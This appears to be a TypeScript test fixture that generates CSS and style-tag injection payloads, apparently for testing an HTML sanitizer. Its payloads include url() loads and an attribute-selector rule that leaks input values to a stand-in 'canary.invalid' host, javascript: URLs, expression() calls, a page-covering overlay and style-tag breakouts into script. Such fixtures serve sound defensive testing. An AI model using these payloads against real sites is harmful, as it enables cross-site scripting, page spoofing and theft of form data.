import { product, song } from './payload';

/** What CSS has been made to do: run in old engines, load, cover the page, read what stands in it. */
const declarations: readonly string[] = [
  'background:url(http://canary.invalid/)',
  'background-image:image-set("http://canary.invalid/" 1x)',
  `background:url(javascript:${song})`,
  'background:\\75rl(http://canary.invalid/)',
  'background:u/**/rl(http://canary.invalid/)',
  'list-style-image:url(//canary.invalid/)',
  'border-image:url(//canary.invalid/) 1',
  'cursor:url(http://canary.invalid/),auto',
  'content:url(http://canary.invalid/)',
  'filter:url(http://canary.invalid/x.svg#f)',
  'mask:url(http://canary.invalid/)',
  'clip-path:url(http://canary.invalid/#x)',
  'offset-path:url(http://canary.invalid/)',
  'src:url(http://canary.invalid/)',
  `width:expression(${song})`,
  `xss:expr/**/ession(${song})`,
  `behavior:url(#default#time2)`,
  `-moz-binding:url(http://canary.invalid/#x)`,
  '--x:url(http://canary.invalid/);background:var(--x)',
  'position:fixed;inset:0;z-index:99999;background:#fff',
  'animation:x 1s;display:block',
  'font-family:"</style><script>canary(1)</script>"',
  'color:red;}</style><script>canary(1)</script>',
];

const carriers: readonly ((declaration: string) => string)[] = [
  (declaration) => `<p style="${declaration.replaceAll('"', '&quot;')}">a</p>`,
  (declaration) => `<style>*{${declaration}}</style><p>a</p>`,
  (declaration) => `<a href="https://example.org/" style='${declaration}'>a</a>`,
  (declaration) => `<svg><style>*{${declaration}}</style></svg>`,
  (declaration) => `<p class="lead" style="font-weight:bold;${declaration.replaceAll('"', "'")}">a</p>`,
];

export const styles: readonly string[] = [
  ...product(declarations, carriers, (declaration, carry) => carry(declaration)),
  '<style>@import "http://canary.invalid/x.css";</style>',
  "<style>@import'//canary.invalid/x.css';</style>",
  '<style>@\\69mport url(http://canary.invalid/)</style>',
  '<style>@font-face{font-family:x;src:url(http://canary.invalid/)}</style>',
  '<style>input[value^=a]{background:url(http://canary.invalid/a)}</style>',
  `<style>@namespace url(http://canary.invalid/);@charset "utf-7";</style>`,
  '<style type="text/javascript">canary(1)</style>',
  '<style media="all" onload=canary(1)></style>',
  '<link rel=stylesheet href="data:text/css,*{background:url(http://canary.invalid/)}">',
];
